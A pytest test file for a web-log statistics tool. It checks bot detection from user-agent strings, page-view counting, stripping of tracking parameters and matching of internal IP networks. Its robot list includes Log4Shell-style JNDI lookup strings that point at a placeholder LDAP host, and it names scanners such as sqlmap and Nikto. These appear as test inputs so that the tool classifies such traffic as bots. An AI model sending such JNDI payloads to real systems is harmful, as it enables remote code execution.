"""Who is a person, what is a page, what is one article, and which addresses are ours."""

import ipaddress
import json
from collections.abc import Callable, Iterable, Mapping
from importlib.resources import files
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lines import CHROME, FIREFOX, GOOGLEBOT, Line, contents, examples, read_in

from logstats import config, rules
from logstats.config import Settings

# --- Agents -------------------------------------------------------------------------------------------

ANDROID = "Mozilla/5.0 (Linux; Android {}) AppleWebKit/537.36 (KHTML, like Gecko) {}"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) {}"
)
WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) {}"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/{}"
CHROMIUM = "Version/4.0 Chrome/137.0.7151.115 Mobile Safari/537.36"

PEOPLE = {
    "Firefox": FIREFOX,
    "Chrome on Android, which hides the phone": CHROME,
    "Chrome on Windows": WINDOWS.format("Chrome/147.0.0.0 Safari/537.36"),
    "Edge": WINDOWS.format("Chrome/147.0.0.0 Safari/537.36 Edg/147.0.0.0"),
    "Opera": WINDOWS.format("Chrome/118.0.0.0 Safari/537.36 OPR/104.0.0.0"),
    "Vivaldi": WINDOWS.format("Chrome/118.0.0.0 Safari/537.36 Vivaldi/6.4.3160.41"),
    "Yandex Browser": WINDOWS.format("Chrome/120.0.0.0 YaBrowser/24.1.0.0 Safari/537.36"),
    "Cốc Cốc": WINDOWS.format("coc_coc_browser/123.0.222 Chrome/117.0.5938.222 Safari/537.36"),
    "Cốc Cốc on a phone": ANDROID.format(
        "11; SM-A205F", "coc_coc_browser/103.0.124 Mobile Chrome/97.0.4692.124 Mobile Safari/537.36"
    ),
    "Safari on a Mac": MAC.format("605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15"),
    "Fluid": MAC.format("528.16 (KHTML, like Gecko) Fluid/0.9.6 Safari/528.16"),
    "the browser in VS Code": WINDOWS.format(
        "Code/1.115.0 Chrome/142.0.7444.265 Electron/39.8.5 Safari/537.36"
    ),
    "Safari on an iPhone": IPHONE.format("Version/17.5 Mobile/15E148 Safari/604.1"),
    "Safari on an iPad": IPHONE.format("Version/15.6 Mobile/15E148 Safari/604.1").replace("iPhone;", "iPad;"),
    "Chrome on an iPhone": IPHONE.format("CriOS/126.0.6478.108 Mobile/15E148 Safari/604.1"),
    "Firefox on an iPhone": IPHONE.format("FxiOS/127.1 Mobile/15E148 Safari/605.1.15"),
    "the Google app": IPHONE.format("GSA/320.0.643 Mobile/15E148 Safari/604.1"),
    "the Google app on Android": ANDROID.format("13; V2206; wv", f"{CHROMIUM} GSA/15.20.33.28.arm64"),
    "OPPO, Android 15": ANDROID.format(
        "15; CPH2557 Build/AP3A.240617.008; wv", f"{CHROMIUM} Instagram 406.0.0.58"
    ),
    "realme, Android 15": ANDROID.format("15; RMX3890 Build/AP3A.240617.008; wv", CHROMIUM),
    "OnePlus, Android 15": ANDROID.format("15; CPH2581 Build/AP3A.240617.008", CHROMIUM),
    "vivo": ANDROID.format("12; vivo 1906 Build/PKQ1.190616.001; wv", f"{CHROMIUM} VivoBrowser/10.9.0.0"),
    "Xiaomi": ANDROID.format(
        "13; vi-vn; 2201117TG Build/TKQ1.221114.001", f"{CHROMIUM} XiaoMi/MiuiBrowser/14.3.0-gn"
    ),
    "Samsung": ANDROID.format(
        "14; SAMSUNG SM-A546E", "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"
    ),
    "Huawei": ANDROID.format("10; ELE-L29", f"{CHROMIUM} HuaweiBrowser/14.0.2.311"),
    "CUBOT": ANDROID.format("9; CUBOT_NOTE_S", CHROMIUM),
    "CUBOT, with a space": ANDROID.format("10; CUBOT KINGKONG CS", CHROMIUM),
    "CUBOT, with its build": ANDROID.format("8.0.0; CUBOT X18 Plus Build/O00623; wv", CHROMIUM),
    "HTC Butterfly": ANDROID.format("5.0.2; HTC Butterfly s Build/LRX22G", CHROMIUM),
    "Zalo on an iPhone": IPHONE.format("Mobile/15E148 Zalo iOS/495 ZaloTheme/light ZaloLanguage/vn"),
    "Zalo on Android": ANDROID.format(
        "13; SM-A135F Build/TP1A.220624.014; wv", f"{CHROMIUM} Zalo android/12100726 ZaloTheme/light"
    ),
    "Facebook on an iPhone": IPHONE.format(
        "Mobile/21F90 [FBAN/FBIOS;FBAV/471.1.0.36.109;FBDV/iPhone14,5;FBSN/iOS;FBLC/vi_VN;IABMV/1]"
    ),
    "Facebook on Android": ANDROID.format(
        "14; SM-A155F Build/UP1A.231005.007; wv", f"{CHROMIUM} [FB_IAB/FB4A;FBAV/518.0.0.63.86;]"
    ),
    "Messenger": IPHONE.format("Mobile/21F90 [FBAN/MessengerForiOS;FBAV/462.0.0.29.108;FBLC/vi_VN]"),
    "Instagram": IPHONE.format("Mobile/21F90 Instagram 337.0.3.23.54 (iPhone14,5; iOS 17_5_1; vi_VN)"),
    "TikTok": ANDROID.format(
        "12; CPH2239 Build/RKQ1; wv", f"{CHROMIUM} trill_320405 BytedanceWebview/d8a21c6"
    ),
    "Viber's browser": ANDROID.format("12; SM-A125F; wv", f"{CHROMIUM} Viber/18.5.0.8"),
    "WhatsApp's browser": ANDROID.format("13; SM-A336E; wv", f"{CHROMIUM} WhatsApp/2.24.1.78"),
    "LINE": IPHONE.format("Mobile/15E148 Safari Line/14.9.0"),
    "WeChat": ANDROID.format("11; M2004J19C; wv", f"{CHROMIUM} MMWEBID/9 MicroMessenger/8.0.37.2380"),
    "DuckDuckGo's browser": ANDROID.format(
        "12", "Version/4.0 Chrome/101.0.4951.41 Mobile DuckDuckGo/5 Safari/537.36"
    ),
    "UC Browser": ANDROID.format("10; en-US; RMX2030", f"{CHROMIUM} UCBrowser/13.4.0.1306"),
    "Sogou's browser": ANDROID.format("10; MI 8", f"{CHROMIUM} AWP/2.0 SogouMSE,SogouMobileBrowser/5.28.8"),
    "Sogou's browser on Windows": WINDOWS.format("Chrome/58.0.3029.110 Safari/537.36 SE 2.X MetaSr 1.0"),
    "Opera Mini": "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; vi) Presto/2.12.423 Version/12.16",
    "Opera, long ago": "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18",
    "Internet Explorer 6": "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
    "Internet Explorer 9": "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Internet Explorer 11": "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Konqueror": "Mozilla/5.0 (compatible; Konqueror/4.14; Linux) KHTML/4.14.38 (like Gecko)",
    "a television of Samsung's": (
        "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36"
    ),
    "a television of LG's": (
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/94.0.4606.128 Safari/537.36"
    ),
    "a PlayStation": "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "a phone with KaiOS": "Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
}
ROBOTS = (
    GOOGLEBOT,
    ANDROID.format(
        "6.0.1; Nexus 5X Build/MMB29P",
        f"{CHROMIUM} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    "Googlebot-Image/1.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
    "Sogou Pic Spider/3.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
    "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    MAC.format(
        "605.1.15 (KHTML, like Gecko) Version/13.1 Safari/605.1.15 (Applebot/0.1; +http://apple.com/go/applebot)"
    ),
    ANDROID.format(
        "7.0;", "Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"
    ),
    ANDROID.format("5.0", "Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"),
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/bot)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "Twitterbot/1.0",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "TelegramBot (like TwitterBot)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "WhatsApp/2.23.20.0",
    "WhatsApp",
    "Viber",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Mozilla/5.0 (compatible; Pingdom.com_bot_version_1.4_(http://www.pingdom.com/))",
    "jetmon/1.0 (Jetpack Site Uptime Monitor by WordPress.com)",
    "curl/7.88.1",
    "Wget/1.21.3",
    "python-requests/2.31.0",
    "Python-urllib/3.11",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "Java/1.8.0_202",
    "libwww-perl/6.67",
    "Apache-HttpClient/4.5.13 (Java/11.0.20)",
    "Scrapy/2.11.0 (+https://scrapy.org)",
    WINDOWS.format("HeadlessChrome/120.0.0.0 Safari/537.36"),
    MAC.format("537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Chrome-Lighthouse"),
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "Mozilla/5.0 (${jndi:ldap://198.51.100.7/a})",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
    "Fever/1.38 (Feed Parser; http://feedafever.com; Allow like Gecko)",
    "Mozilla/5.0 (compatible; Butterfly/1.0; +http://labs.topsy.com/butterfly/) Gecko/2009 Firefox/3.0.8",
    "Mozilla/5.0 (compatible; RankSonicSiteAuditor/1.0; +https://ranksonic.com/ranksonic_sab.html)",
    "008/0.83 (http://www.80legs.com/webcrawler.html) Gecko/2008032620",
    "Apache/2.4.65 (Debian) (internal dummy connection)",
    "WordPress/6.5; https://example.vn",
    "UniversalFeedParser/5.2.1 +https://code.google.com/p/feedparser/",
    "Mozilla/5.0",
)
REASONS = {
    # an agent for each step of the judgement, and for each pair of steps that could be taken the other way
    "": "empty",
    "-": "empty",
    "Googlebot-News": "list",
    "Googlebot/2.1 (+http://www.google.com/bot.html)": "list",  # generic as well
    "curl/8.0": "list",  # not-a-browser as well
    "Quokkabot/0.1": "generic",
    "QUOKKA-BOT": "generic",
    "Quokka robots 1": "generic",
    "Mozilla/5.0 (X11; quokka_bot) Gecko": "generic",
    "Mozilla/5.0 (compatible; Quokka-Crawl 1)": "generic",  # compatible as well
    "Mozilla/5.0 (compatible; Quokka 1)": "compatible",
    "Mozilla/4.0 (compatible;)": "compatible",
    "Mozilla/5.0(compatible; Quokka)": "compatible",  # not-a-browser as well
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)": None,
    "Quokka/1.0": "not-a-browser",
    "Mozilla/3.0 (Win95; I)": "not-a-browser",
    "Opera/7.54 (Windows NT 5.1; U)": "not-a-browser",
    "My Mozilla/5.0 (X11)": "not-a-browser",
    "Mozilla/5.0 (Quokkaboth 1)": None,  # bot is no word in it
    "Mozilla/5.0 (Botany)": None,
}


def judged(folder: Path, agents: Iterable[str]) -> dict[str, str | None]:
    """Return the reason why each agent is a bot, None for a person, as a store keeps it."""
    store, log = folder / "store.duckdb", folder / "access.log"
    escaped = [agent.replace("\\", "\\\\").replace('"', '\\"') for agent in agents]
    log.write_bytes(b"".join(Line(agent=agent).combined() for agent in escaped))
    summary = read_in(store, log)
    assert (summary.hits, summary.rejects) == (len(escaped), 0)
    return {row[3]: row[4] for row in contents(store, "hits")["hits"]}


@pytest.fixture(scope="module")
def reasons(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str | None]:
    """Give the reasons of all agents named here."""
    return judged(tmp_path_factory.mktemp("agents"), [*PEOPLE.values(), *ROBOTS, *REASONS])


@pytest.mark.parametrize("who", PEOPLE)
def test_this_is_a_person(reasons: dict[str, str | None], who: str) -> None:
    assert reasons[PEOPLE[who]] is None


@pytest.mark.parametrize("agent", ROBOTS)
def test_this_is_a_robot(reasons: dict[str, str | None], agent: str) -> None:
    assert reasons[agent] is not None


@pytest.mark.parametrize("agent", REASONS)
def test_the_first_reason_that_holds_is_told(reasons: dict[str, str | None], agent: str) -> None:
    assert reasons["" if agent == "-" else agent] == REASONS[agent]


def bot_list() -> list[dict[str, Any]]:
    """Return the entries of crawler-user-agents."""
    text = files("crawleruseragents").joinpath("crawler-user-agents.json").read_text("utf-8")
    entries: list[dict[str, Any]] = json.loads(text)
    return entries


def test_each_replaced_pattern_is_still_in_the_list() -> None:
    # when the list mends one of them, what stands in its place is to go
    assert set(rules.BOT_LIST_REPLACED) - {entry["pattern"] for entry in bot_list()} == set()


def test_each_agent_that_the_list_shows_for_a_pattern_is_a_bot(tmp_path: Path) -> None:
    listed = [entry for entry in bot_list() if entry["pattern"] not in rules.BOT_LIST_REPLACED]
    shown = {" ".join(agent.split()) for entry in listed for agent in entry["instances"]}
    # some stand there for more than one pattern, and one of them is a phone's
    replaced = {agent for agent in shown if "AP3A.240617.008" in agent or "Code/1." in agent}
    told = judged(tmp_path, shown - replaced)
    assert len(told) > 2000
    assert [agent for agent, reason in told.items() if reason is None] == []


# --- What a hit counts as -----------------------------------------------------------------------------

COUNTS_AS = {
    # (client, method, status, target, agent): each reason goes before the ones under it
    ("127.0.0.1", "POST", "404", "/a.css", GOOGLEBOT): "bot",
    ("192.0.2.1", "GET", "200", "/", GOOGLEBOT): "bot",
    ("127.0.0.1", "POST", "404", "/a.css", FIREFOX): "internal",
    ("127.9.8.7", "GET", "200", "/", FIREFOX): "internal",
    ("::1", "GET", "200", "/", FIREFOX): "internal",
    ("192.0.2.1", "POST", "404", "/a.css", FIREFOX): "asset",
    ("192.0.2.1", "POST", "404", "/", FIREFOX): "method",
    ("192.0.2.1", "HEAD", "200", "/", FIREFOX): "method",
    ("192.0.2.1", "get", "200", "/", FIREFOX): "method",
    ("192.0.2.1", "GET", "404", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "301", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "303", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "305", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "199", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "300", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "500", "/", FIREFOX): "status",
    ("192.0.2.1", "GET", "200", "/", FIREFOX): "page view",
    ("192.0.2.1", "GET", "206", "/", FIREFOX): "page view",
    ("192.0.2.1", "GET", "299", "/", FIREFOX): "page view",
    ("192.0.2.1", "GET", "304", "/", FIREFOX): "page view",
}


def test_a_hit_counts_as_a_page_view_or_by_the_first_reason_as_none(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_bytes(
        b"".join(
            Line(client, request=f"{method} {target} HTTP/1.1", status=status, agent=agent).combined()
            for client, method, status, target, agent in COUNTS_AS
        )
    )
    read_in(tmp_path / "store.duckdb", log)
    told = {
        (row[2], row[9], str(row[10]), row[5], row[3]): row[12]
        for row in contents(tmp_path / "store.duckdb", "hits")["hits"]
    }
    assert told == COUNTS_AS


# --- Pages and articles -------------------------------------------------------------------------------

ASSETS = (
    *(
        "/a.css",
        "/A.CSS",
        "/js/in.min.js",
        "/a.css?v=1",
        "/a.js#x",
        "/anh/cong.jpg",
        "/anh/cong.JPEG",
        "/b.webp",
    ),
    *(
        "/favicon.ico",
        "/x.woff2",
        "/v.mp4",
        "/live/1.m3u8",
        "/robots.txt",
        "/sitemap.xml",
        "/tin.rss",
        "/data.json",
    ),
    *("/feed", "/feed/", "/tin/feed/", "/rss", "/.well-known/acme-challenge/x", "/api/v1/tin", "/API/v2"),
)
PAGES = (
    *(
        "/",
        "/tin/css",
        "/css/",
        "/feeding",
        "/tin/feeds-me",
        "/a.html",
        "/a.php",
        "/a.aspx",
        "/van-ban.pdf",
        "/a.doc",
    ),
    *("/a.php?f=x.css", "/a.css/", "/acss", "/a.cssx", "/tin.jpg.html", "/robots.txt.html", "/x/api/v1", ""),
)


def settings_with(**site: Any) -> Settings:
    """Return settings of one site, with what one's own portal calls an asset."""
    return Settings(assets=(r"/api/.*",), unlisted=config.Site(**site))


def addresses(folder: Path, targets: Iterable[str]) -> dict[str, str | None]:
    """Return the article that each target is, None for an asset."""
    log = folder / "access.log"
    log.write_bytes(b"".join(Line(request=f"GET {target} HTTP/1.1").combined() for target in targets))
    read_in(folder / "store.duckdb", log, settings=settings_with())
    rows = contents(folder / "store.duckdb", "hits")["hits"]
    assert all((row[6], row[7] is None) in {(True, True), (False, False)} for row in rows)
    return {row[5]: row[7] for row in rows}


def test_assets_are_no_articles_and_pages_are(tmp_path: Path) -> None:
    told = addresses(tmp_path, [*ASSETS, *PAGES])
    assert {target for target, article in told.items() if article is None} == set(ASSETS)


DROPPED = (
    *(
        "utm_source=zalo",
        "utm_campaign=",
        "UTM_Medium=x",
        "utm_x",
        "fbclid=IwAR0",
        "fbclid",
        "gclid=1",
        "gbraid=1",
    ),
    *(
        "wbraid=1",
        "msclkid=1",
        "ttclid=1",
        "zarsrc=30",
        "gidzl=x",
        "p_p_id=1",
        "p_p_lifecycle=0",
        "p_l_back_url=%2F",
    ),
    *("redirect=%2Ftin",),
)
KEPT = (
    *(
        "sid=5",
        "id=1",
        "tabid=62",
        "ItemID=7",
        "SID=5",
        "page=2",
        "q=utm_source",
        "utm=1",
        "xfbclid=1",
        "fbclid2=1",
    ),
    *("redirect_id=1", "p_id=1", "gclids=1", "x"),
)


def test_tracking_parameters_are_dropped_and_identities_are_kept(tmp_path: Path) -> None:
    expected = {f"/tin?{dropped}": "/tin" for dropped in DROPPED}
    for kept in KEPT:
        for dropped in DROPPED[:6]:
            expected[f"/tin?{kept}&{dropped}"] = f"/tin?{kept}"
            expected[f"/tin?{dropped}&{kept}"] = f"/tin?{kept}"
    expected |= {"/tin?": "/tin", "/tin?&": "/tin", "/tin#a?id=1": "/tin", "/tin?id=1#b": "/tin?id=1"}
    expected["/tin?id=1&fbclid=2&sid=3#c"] = "/tin?id=1&sid=3"
    assert addresses(tmp_path, expected) == expected


# --- Addresses of our own -----------------------------------------------------------------------------


def internal(networks: Mapping[str, Iterable[str]], clients: Iterable[str]) -> dict[str, set[str]]:
    """Return which of the clients are internal to each site, each having been to every site."""
    settings = Settings(
        sites=tuple(config.Site(site, internal=tuple(told)) for site, told in networks.items())
    )
    lines = (Line(client, host=site).vhost_combined() for client in clients for site in networks)
    with TemporaryDirectory() as name:
        log, store = Path(name) / "access.log", Path(name) / "store.duckdb"
        log.write_bytes(b"".join(lines))
        read_in(store, log, settings=settings, log_format="vhost_combined")
        rows = contents(store, "hits")["hits"]
    return {site: {row[2] for row in rows if (row[0], row[12]) == (site, "internal")} for site in networks}


Network = ipaddress.IPv4Network | ipaddress.IPv6Network
Address = ipaddress.IPv4Address | ipaddress.IPv6Address
WRITTEN: tuple[Callable[[Address], str], ...] = (
    # the ways in which servers write an address
    lambda address: address.compressed,
    lambda address: address.exploded,
    lambda address: address.compressed.upper(),
    lambda address: ":".join(f"{int(part, 16):x}" for part in address.exploded.split(":")),
)


def around(network: Network) -> list[int]:
    """Return the numbers at the borders of a network."""
    first, last = int(network.network_address), int(network.broadcast_address)
    numbers = (first - 1, first, first + 1, (first + last) // 2, last - 1, last, last + 1)
    return [number for number in numbers if 0 <= number < 1 << network.max_prefixlen]


@settings(max_examples=examples(3))
@given(number=st.integers(0, 2**32 - 1), elsewhere=st.lists(st.ip_addresses(v=4), min_size=5, max_size=10))
def test_an_ipv4_network_of_any_length_holds_what_python_says(
    number: int, elsewhere: list[ipaddress.IPv4Address]
) -> None:
    networks = {
        f"p{length}.example": ipaddress.IPv4Network((number, length), strict=False) for length in range(33)
    }
    near = {ipaddress.IPv4Address(border) for network in networks.values() for border in around(network)}
    clients = {str(address): address for address in [*near, *elsewhere]}
    expected = {
        site: {client for client, address in clients.items() if address in network}
        for site, network in networks.items()
    }
    asked = [*clients, "2001:db8::1", "-"]
    told = internal({site: [str(network)] for site, network in networks.items()}, asked)
    assert told == expected


@settings(max_examples=examples(3))
@given(number=st.integers(0, 2**128 - 1), elsewhere=st.lists(st.ip_addresses(v=6), min_size=3, max_size=5))
def test_an_ipv6_network_of_any_length_holds_what_python_says_however_it_is_written(
    number: int, elsewhere: list[ipaddress.IPv6Address]
) -> None:
    lengths = [*range(0, 129, 8), 1, 47, 49, 63, 65, 127]
    networks = {
        f"p{length}.example": ipaddress.IPv6Network((number, length), strict=False) for length in lengths
    }
    near = {ipaddress.IPv6Address(border) for network in networks.values() for border in around(network)}
    clients = {write(address): address for address in [*near, *elsewhere] for write in WRITTEN}
    expected = {
        site: {client for client, address in clients.items() if address in network}
        for site, network in networks.items()
    }
    asked = [*clients, "192.0.2.1", "-", "a:b"]
    told = internal({site: [str(network)] for site, network in networks.items()}, asked)
    assert told == expected


def test_several_networks_are_internal_together_and_each_site_has_its_own() -> None:
    clients = ["127.0.0.1", "127.255.255.255", "::1", "0:0:0:0:0:0:0:1", "10.1.2.3", "128.0.0.1", "1::1"]
    # a provider names its customers' lines by their addresses: a name is no address
    names = ["127.example.net", "10.0.0.1.dsl.example.net", "10.1.2.3.example.net"]
    networks = {
        "a.example": config.LOOPBACK,
        "b.example": ("10.0.0.0/8", "10.1.2.3/32", "1::/16"),
        "c.example": (),
    }
    assert internal(networks, [*clients, *names]) == {
        "a.example": set(clients[:4]),  # Tomcat writes addresses in full
        "b.example": {"10.1.2.3", "1::1"},
        "c.example": set(),
    }
